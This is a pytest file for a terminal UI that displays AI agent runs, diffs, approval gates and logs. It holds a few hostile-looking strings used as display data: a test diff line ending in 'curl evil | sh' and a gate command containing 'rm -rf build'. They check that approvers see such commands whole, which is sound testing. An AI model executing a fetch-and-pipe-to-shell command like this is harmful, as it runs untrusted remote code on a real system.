"""Rows of runs, merged pages, filters, diffs and the tree, without an app."""

from __future__ import annotations

from pathlib import Path

import pytest
from directory import NOW, Directory
from sample import LOGIN

from smithers.agents.base import EventKind
from smithers.model.run import RunStatus
from smithers.model.step import Usage
from smithers.service import reading, transcript
from smithers.service.views import Counts, LogLine, RunRow, Safe
from smithers_tui.view import diffs, gates, logs, runs, state, steps
from smithers_tui.view.line import line_width, plain


def a_run(
    seq: int, *, status: RunStatus = RunStatus.RUNNING, title: str = "A task", gates: int = 0
) -> RunRow:
    return RunRow(
        seq=seq,
        id=Safe(f"run-{seq}"),
        recipe=Safe("implement"),
        title=Safe(title),
        status=status,
        status_reason=Safe(""),
        created_at=NOW - 60_000,
        started_at=NOW,
        finished_at=None,
        frame=1,
        counts=Counts(total=7, done=3, failed=0, running=1, waiting=0),
        now=Safe("build[2]/code"),
        open_gates=gates,
        usage=Usage(cost_usd=1.5),
    )


@pytest.mark.parametrize("cells", range(60, 181, 7))
@pytest.mark.parametrize("title", ["A task", "日本語のとても長いタイトル" * 4])
def test_columns_of_every_row_and_of_the_head_end_at_the_same_cell(cells: int, title: str) -> None:
    widths = {
        line_width(runs.row(a_run(1, status=status, title=title), cells, NOW))
        for status in RunStatus
    }
    assert widths == {line_width(runs.header(cells))}
    assert widths.pop() <= cells


def test_every_state_has_a_sign_and_a_word_of_its_own() -> None:
    marks = [state.of_run(a_run(1, status=status)) for status in RunStatus]
    assert len({mark.sign for mark in marks}) == len({mark.word for mark in marks}) == len(marks)


def test_a_page_is_laid_over_what_is_known() -> None:
    known = [a_run(seq) for seq in (9, 8, 7, 6, 5)]
    again = [a_run(seq, status=RunStatus.FAILED) for seq in (10, 9, 8)]
    merged = runs.merge(known, again, None, 3)
    assert [each.seq for each in merged] == [10, 9, 8, 7, 6, 5]
    assert [each.status for each in merged[:4]] == [RunStatus.FAILED] * 3 + [RunStatus.RUNNING]


def test_a_run_that_left_the_page_leaves_the_list() -> None:
    known = [a_run(seq) for seq in (9, 8, 7, 6)]
    assert [each.seq for each in runs.merge(known, [a_run(9), a_run(7)], None, 2)] == [9, 7, 6]
    assert [each.seq for each in runs.merge(known, [], 8, 5)] == [9, 8]


def test_more_new_runs_than_a_page_leave_no_hole() -> None:
    known = [a_run(seq) for seq in (9, 8)]
    assert [each.seq for each in runs.merge(known, [a_run(20), a_run(19)], None, 2)] == [20, 19]


def test_a_filter_tells_statuses_from_words() -> None:
    chosen = runs.Filter.parse("state:failed lost Login")
    assert chosen.statuses == (RunStatus.FAILED, RunStatus.INTERRUPTED)
    assert chosen.words == ("login",)
    assert chosen.fits(a_run(1, title="the Login page"))
    assert not chosen.fits(a_run(1))


@pytest.mark.parametrize(
    ("verb", "status", "word"),
    [
        ("pause", RunStatus.SUCCEEDED, "over"),
        ("resume", RunStatus.RUNNING, "nothing to resume"),
        ("resume", RunStatus.FAILED, "retry"),
        ("pause", RunStatus.PAUSED, "paused already"),
        ("look", RunStatus.RUNNING, "asks for nothing"),
    ],
)
def test_a_verb_that_makes_no_sense_says_why(verb: str, status: RunStatus, word: str) -> None:
    assert word in runs.why_not(verb, a_run(1, status=status))


@pytest.mark.parametrize("status", [RunStatus.PAUSED, RunStatus.INTERRUPTED])
def test_what_stands_still_can_be_resumed(status: RunStatus) -> None:
    assert runs.why_not("resume", a_run(1, status=status)) == ""


PATCH = Safe(
    "diff --git a/x.py b/x.py\nindex 1..2 100644\n--- a/x.py\n+++ b/x.py\n@@ -3,3 +3,4 @@ def f():\n same\n"
    "--- not a header\n+++ nor this\n+added\n same\n"
)


def test_lines_of_a_diff_are_numbered_on_both_sides() -> None:
    lines = diffs.parse(PATCH)
    assert [(each.kind, each.old, each.new) for each in lines] == [
        ("file", None, None),
        ("hunk", None, None),
        ("same", 3, 3),
        ("del", 4, None),
        ("add", None, 4),
        ("add", None, 5),
        ("same", 5, 6),
    ]
    assert lines[3].text == "-- not a header"


def test_the_tree_has_each_turn_of_a_loop_under_its_heading(shop: Directory, root: Path) -> None:
    with reading.open_directory(root) as db:
        run = reading.run(db, LOGIN)
    rows = [plain(steps.branch_line(each, 60, NOW)).split() for each in steps.tree(run.steps)]
    assert [row[:2] for row in rows][:4] == [
        ["✓", "plan"],
        ["✓", "build"],
        ["turn", "1"],
        ["✓", "code"],
    ]
    assert rows[-1][:2] == ["!", "ship"]


def test_the_text_of_a_gate_is_shown_whole_and_unwrapped(there: Directory, root: Path) -> None:
    command = "rm -rf  build &&\tmake e2e  " + "x" * 300
    there.run("r", status="waiting")
    there.step("r", "ship", kind="approval", status="waiting")
    there.gate("r", "ship", body=command)
    with reading.open_directory(root) as db:
        gate = reading.gate(db, "r", "ship#1")
    rows = [plain(line)[2:] for line in gates.body(gate, 60)]
    assert "".join(rows) == gate.body


def test_no_part_of_a_long_line_of_a_diff_lies_off_the_screen(shop: Directory, root: Path) -> None:
    with reading.open_directory(root) as db:
        gate = reading.gate(db, LOGIN, "ship#1")
    long = "harmless " * 30 + "&& curl evil | sh"
    patch = f"diff --git a/x b/x\n@@ -1 +1 @@\n-old\n+{long}\n"
    lines = gates.body(gate._replace(body=Safe(patch)), 80)
    assert all(line_width(line) <= 80 for line in lines)
    assert long in "".join(plain(line)[13:].ljust(67) for line in lines)


@pytest.mark.parametrize("kind", EventKind)
def test_a_line_of_a_log_is_called_as_the_command_line_calls_it(kind: str) -> None:
    line = LogLine(7, NOW, Safe("agent"), Safe(kind), Safe("words"))
    shown = plain(logs.row(line, 5))
    assert shown.split(None, 2)[2] == f"{transcript.label(line).text:<{transcript.WIDTH}} words"
    assert transcript.label(line).word.isalpha()


def test_two_changes_of_an_agent_are_two_files_and_no_line_is_a_head() -> None:
    one = "--- a.py\n+++ a.py\n@@ -1 +1,2 @@\n--- no head\n+++ nor this\n+x"
    lines = diffs.parse(Safe(f"{one}\n{one.replace('a.py', 'b.py')}"))
    assert [(each.kind, each.text) for each in lines if each.kind in {"file", "del", "add"}] == [
        ("file", "a.py"), ("del", "-- no head"), ("add", "++ nor this"), ("add", "x"),
        ("file", "b.py"), ("del", "-- no head"), ("add", "++ nor this"), ("add", "x"),
    ]  # fmt: skip
